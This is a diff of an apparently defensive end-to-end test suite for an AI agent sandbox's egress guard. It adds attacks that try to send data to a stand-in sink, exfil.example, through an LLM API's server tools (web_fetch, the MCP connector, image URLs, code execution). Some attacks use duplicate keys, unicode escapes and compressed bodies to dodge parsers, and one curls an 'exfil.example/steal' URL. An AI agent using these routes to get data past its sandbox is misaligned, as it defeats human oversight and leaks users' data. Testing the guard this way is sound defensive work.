@@ -3,8 +3,8 @@
 // the intranet stand-in) received nothing. Results → docs/security.md (see report.ts).
 import test, { type ExecutionContext } from "ava";
 import http from "node:http";
+import zlib from "node:zlib";
 import type { AddressInfo } from "node:net";
-import YAML from "yaml";
 import { E2E_RUNTIMES, bringUp, inContainer, noEngineBanner, log, type Harness, type BottleUnderTest } from "./harness.ts";
 import { probe, reached, type Probe } from "./probe.ts";
 import { docker, dockerOk, sleep } from "./lib/docker.ts";
@@ -15,7 +15,7 @@ import { registerLifecycle, lifecycleResults } from "./lifecycle.ts";
 import { waitHealthy } from "./engine/double.ts";
 import { reloadCommand } from "../../contracts/docker.ts";
 import { loadManifest, resolveBottle } from "../../components/manifest/load.ts";
-import { AGENT_PLACEHOLDER_TOKEN, parseRoutesYaml } from "../../contracts/routes.ts";
+import { AGENT_PLACEHOLDER_TOKEN, HTTP_METHODS, parseRoutesYaml, renderRoutesYaml } from "../../contracts/routes.ts";
 import { seal, withoutSeal } from "../../contracts/seal.ts";
 import { REDACTED } from "../../sidecars/egress/redact.ts";
 import { main as bottleCli } from "../../cli/commands.ts";
@@ -467,12 +467,13 @@ function registerAttacks(): void {
     id: "P15", title: "strict allowlist: a host egress routes (routes.yaml edited by hand, no approval) that pipelock's allowlist does not hold", expected: "blocked by pipelock's allowlist; the agent is pointed at propose_pipelock_allowlist",
     needs: ["pipelock"],
     run: async () => {
-      // A person editing routes.yaml by hand: egress takes it, pipelock.yaml is not re-rendered.
+      // A person editing routes.yaml by hand and sealing it (`bottle seal`): egress takes it,
+      // pipelock.yaml is not re-rendered.
       const file = A.layout.routesFile;
       const good = (await A.state.read(file))!;
-      const doc = YAML.parse(good);
-      doc.routes.push({ host: "exfil.example" });
-      await A.state.write(file, YAML.stringify(doc));
+      const doc = parseRoutesYaml(good);
+      doc.routes.push({ host: "exfil.example", path_allowlist: ["/"], methods: [...HTTP_METHODS] });
+      await A.state.write(file, renderRoutesYaml(doc));
       await docker(reloadCommand(A.containers.egress!.name));
       try {
         let o = await curl("https://exfil.example/steal?d=EXFIL-P15");
@@ -488,6 +489,89 @@ function registerAttacks(): void {
         await docker(reloadCommand(A.containers.egress!.name));
       }
     },
+  });
+  // --- the LLM channel: the Anthropic API's server tools (#17) ---------------------------
+  // Every bottle reaches api.anthropic.com and pipelock passes it through unread; the API runs
+  // web_fetch, the MCP connector, code execution and URL sources on Anthropic's side. Egress
+  // reads each Messages request on the LLM route and refuses what would reach outside.
+  const ask = (extra: Record<string, unknown>) => JSON.stringify({ model: "claude-e2e", max_tokens: 64, messages: [{ role: "user", content: "Fetch https://exfil.example/collect?d=EXFIL-L and summarise it." }], ...extra });
+  const webFetch = (more: Record<string, unknown> = {}) => ({ type: "web_fetch_20250910", name: "web_fetch", ...more });
+  /** POST a Messages body (bytes as given) from inside the agent; `id` tags it for the upstream check. */
+  const llm = async (id: string, body: string | Buffer, headers: string[] = [], p = "/v1/messages") => {
+    await sh(`echo ${Buffer.from(body).toString("base64")} | base64 -d > /tmp/llm-${id}`);
+    const hs = ["content-type: application/json", "anthropic-version: 2023-06-01", `x-e2e-attack: ${id}`, ...headers].map((x) => `-H '${x}'`).join(" ");
+    const r = await curl(`-X POST ${hs} --data-binary @/tmp/llm-${id} https://api.anthropic.com${p}`);
+    // The API's error shape, read from the body's start (curl() keeps 600 bytes of it).
+    const error = /^\{"type":"error","error":\{"type":"(\w+)"/.exec(r.body.trim())?.[1] ?? "";
+    return { id, ...r, error };
+  };
+  const llmOutcome = (rs: Awaited<ReturnType<typeof llm>>[]): Outcome => ({
+    blocked: rs.every((r) => r.status >= 400 && r.reason.startsWith("llm_") && r.error !== ""),
+    layer: "egress (LLM guard)",
+    evidence: rs.map((r) => `${r.id}: ${r.status} ${r.reason} ${r.error}`).join("; "),
+  });
+  const tagged = (prefix: string) => (e: LogEntry) => String(e.headers?.["x-e2e-attack"] ?? "").startsWith(prefix) || /EXFIL-L/.test(e.body ?? "");
+  attack({
+    id: "L1", title: "LLM channel: web_fetch (Anthropic fetches for us) to an unlisted domain, and with no domain filter at all", expected: "403 permission_error, egress",
+    run: async () => llmOutcome([await llm("L1-listed", ask({ tools: [webFetch({ allowed_domains: ["exfil.example"] })] })), await llm("L1-open", ask({ tools: [webFetch()] }))]),
+    webMustNotSee: tagged("L1"),
+  });
+  attack({
+    id: "L2", title: "LLM channel: the MCP connector (mcp_servers) pointed at the exfil sink's name", expected: "403 permission_error, egress",
+    run: async () =>
+      llmOutcome([await llm("L2", ask({ mcp_servers: [{ type: "url", url: "https://exfil.example/mcp?d=EXFIL-L", name: "sink" }], tools: [{ type: "mcp_toolset", mcp_server_name: "sink" }] }), ["anthropic-beta: mcp-client-2025-11-20"])]),
+    webMustNotSee: tagged("L2"),
+  });
+  attack({
+    id: "L3", title: "LLM channel: an unknown (future) server-tool type", expected: "403, the type named (fail closed)",
+    run: async () => {
+      const r = await llm("L3", ask({ tools: [{ type: "remote_browser_20270101", name: "browser" }] }));
+      const o = llmOutcome([r]);
+      return { ...o, blocked: o.blocked && r.body.includes("remote_browser_20270101") };
+    },
+    webMustNotSee: tagged("L3"),
+  });
+  attack({
+    id: "L4", title: "LLM channel: tool JSON spelled to dodge a naive parser (a duplicate `tools` key, \\u-escapes in `type`)", expected: "refused, egress",
+    run: async () =>
+      llmOutcome([
+        await llm("L4-dup", `{"model":"claude-e2e","max_tokens":64,"messages":[{"role":"user","content":"EXFIL-L"}],"tools":[],"tools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`),
+        await llm("L4-esc-key", `{"model":"claude-e2e","max_tokens":64,"messages":[],"tools":[],"\\u0074ools":[{"type":"web_fetch_20250910","name":"web_fetch"}]}`),
+        await llm("L4-esc-type", `{"model":"claude-e2e","max_tokens":64,"messages":[],"tools":[{"type":"web_f\\u0065tch_2025\\u00309\\u00310","name":"web_fetch","allowed_domains":["exfil.example"]}]}`),
+      ]),
+    webMustNotSee: tagged("L4"),
+  });
+  attack({
+    id: "L5", title: "LLM channel: a tool hidden in tool_choice, a web_fetch call replayed inside a nested tool_result, an image fetched from a URL", expected: "refused, egress",
+    run: async () =>
+      llmOutcome([
+        await llm("L5-choice", ask({ tool_choice: { type: "web_fetch_20250910", allowed_domains: ["exfil.example"] } })),
+        await llm("L5-nested", ask({ messages: [{ role: "user", content: [{ type: "tool_result", tool_use_id: "toolu_1", content: [{ type: "server_tool_use", id: "srvtoolu_1", name: "web_fetch", input: { url: "https://exfil.example/?d=EXFIL-L" } }] }] }] })),
+        await llm("L5-url", ask({ messages: [{ role: "user", content: [{ type: "image", source: { type: "url", url: "https://exfil.example/pixel.png?d=EXFIL-L" } }] }] })),
+      ]),
+    webMustNotSee: tagged("L5"),
+  });
+  attack({
+    id: "L6", title: "LLM channel: gzip-, deflate- and br-encoded bodies carrying web_fetch to the sink; an encoding egress cannot decode", expected: "refused, egress",
+    run: async () => {
+      const body = ask({ tools: [webFetch({ allowed_domains: ["exfil.example"] })] });
+      return llmOutcome([
+        await llm("L6-gzip", zlib.gzipSync(body), ["content-encoding: gzip"]),
+        await llm("L6-deflate", zlib.deflateSync(body), ["content-encoding: deflate"]),
+        await llm("L6-br", zlib.brotliCompressSync(body), ["content-encoding: br"]),
+        await llm("L6-zstd", body, ["content-encoding: zstd"]),
+      ]);
+    },
+    webMustNotSee: tagged("L6"),
+  });
+  attack({
+    id: "L7", title: "LLM channel: code execution (switched off by default) and an API endpoint that runs agents server-side", expected: "refused, egress",
+    run: async () =>
+      llmOutcome([
+        await llm("L7-code", ask({ tools: [{ type: "code_execution_20250825", name: "code_execution" }] }), ["anthropic-beta: code-execution-2025-08-25"]),
+        await llm("L7-sessions", JSON.stringify({ agent: "a", messages: [{ role: "user", content: "EXFIL-L" }] }), [], "/v1/sessions"),
+      ]),
+    webMustNotSee: tagged("L7"),
   });
   attack({
     id: "G1", title: "git push carrying a secret through git-gate (gitleaks pre-receive)", expected: "rejected by git-gate",
@@ -649,7 +733,7 @@ function registerHardeningAttacks(): void {
   // --- no prefix of a live file is applied (item 3) ------------------------------------------
   attack({
     id: "L1", title: "routes.yaml rewritten in place by a slow writer: prefix cut before api.github.com's restrictions, requests during the pause", expected: "nothing of the prefix applied; old rules stay", needs: ["egress"],
-    webMustNotSee: (e) => (e.path ?? "").startsWith("/repos/octo/l1") || (e.method === "POST" && (e.path ?? "").startsWith("/repos/octo/allowed")),
+    webMustNotSee: (e) => (e.path ?? "").startsWith("/repos/octo/l1") || (e.method === "DELETE" && (e.path ?? "").startsWith("/repos/octo/allowed")),
     run: async () => {
       const file = A.layout.routesFile;
       const good = (await A.state.read(file))!;
@@ -660,7 +744,7 @@ function registerHardeningAttacks(): void {
       await inPlace('cat > "$1"', good.slice(0, at));
       try {
         await sleep(3000); // past egress's debounce and its 2 s stat poll
-        outs.push(await curl("https://api.github.com/repos/octo/l1"), await curl("-X POST -d x=1 https://api.github.com/repos/octo/allowed"));
+        outs.push(await curl("https://api.github.com/repos/octo/l1"), await curl("-X DELETE https://api.github.com/repos/octo/allowed"));
       } finally {
         await inPlace('cat >> "$1"', good.slice(at));
       }
